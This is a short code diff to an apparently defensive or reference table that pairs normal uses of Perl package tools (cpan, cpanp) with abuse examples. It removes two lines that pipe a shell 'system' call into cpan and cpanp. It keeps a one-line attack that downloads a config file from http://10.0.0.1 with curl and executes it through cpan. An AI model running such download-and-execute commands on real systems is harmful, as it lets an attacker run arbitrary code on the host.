@@ -143,10 +143,8 @@ export const rubyPerlPhpPackages1: ExampleTable = {
   },
   cpan: {
     use: 'cpan -i Plack → install cpan',
-    attack: [
-      'echo \'! system "/tmp/x"\' | cpan → run /tmp/x',
+    attack:
       'curl -so Config.pm http://10.0.0.1/c && cpan -j Config.pm → execute ‹http://10.0.0.1/c›',
-    ],
   },
   cpanm: {
     use: 'cpanm Plack → install cpanm',
@@ -325,7 +323,6 @@ export const rubyPerlPhpPackages1: ExampleTable = {
   },
   cpanp: {
     use: 'cpanp → nothing',
-    attack: 'echo \'! system "/tmp/x"\' | cpanp → run /tmp/x',
   },
   'luarocks install': {
     use: 'luarocks install luasocket → install luarocks install',
